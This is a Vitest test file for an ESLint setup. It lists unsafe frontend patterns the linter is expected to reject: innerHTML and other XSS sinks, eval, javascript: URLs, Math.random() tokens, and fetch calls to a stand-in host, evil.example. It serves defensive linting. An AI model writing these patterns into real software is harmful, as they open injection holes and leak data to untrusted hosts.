import { ESLint } from 'eslint';
import { describe, expect, it } from 'vitest';

const lint = new ESLint();
const UNSAFE = [
  "element.innerHTML = name;", "element.outerHTML = name;", "frame.srcdoc = name;", "element.insertAdjacentHTML('beforeend', name);", "sanitizer.bypassSecurityTrustHtml(name);", "sanitizer.bypassSecurityTrustUrl(name);", "document.write(name);",
  "ref.nativeElement.textContent = name;", "eval(name);", "new Function(name);", "setTimeout('alert(1)', 1);", "location.href = 'javascript:alert(1)';", "range.createContextualFragment(name);", "const host = { '[innerHTML]': 'x' };",
]; // prettier-ignore
const FOREIGN = ["fetch('https://evil.example/x');", "fetch('//evil.example/x');", "this.http.get('https://evil.example/x');"];

describe('the linter', () => {
  it.each(UNSAFE)('F4, V6: refuses %s', async (line) => {
    for (const filePath of ['libs/kernel/ui/probe.ts', 'libs/kernel/api/probe.ts']) {
      const [{ messages }] = await lint.lintText(`${line}\n`, { filePath });
      expect(messages.filter(({ ruleId }) => /no-(restricted-syntax|eval|implied-eval|new-func|script-url)/.test(ruleId ?? '')).length).toBeGreaterThan(0);
    }
  });

  it('C9: refuses values that can be guessed, in the server as in its pages', async () => {
    for (const filePath of ['libs/kernel/api/probe.ts', 'apps/api/src/probe.ts', 'libs/kernel/ui/probe.ts']) {
      const [{ messages }] = await lint.lintText('export const token = Math.random();\n', { filePath });
      expect(messages.map(({ ruleId }) => ruleId)).toContain('no-restricted-properties');
    }
  });

  it.each(FOREIGN)('F6: refuses %s in a page', async (line) => {
    const [{ messages }] = await lint.lintText(`${line}\n`, { filePath: 'libs/kernel/ui/probe.ts' });
    expect(messages.some(({ ruleId }) => ruleId === 'no-restricted-syntax')).toBe(true);
  });
});
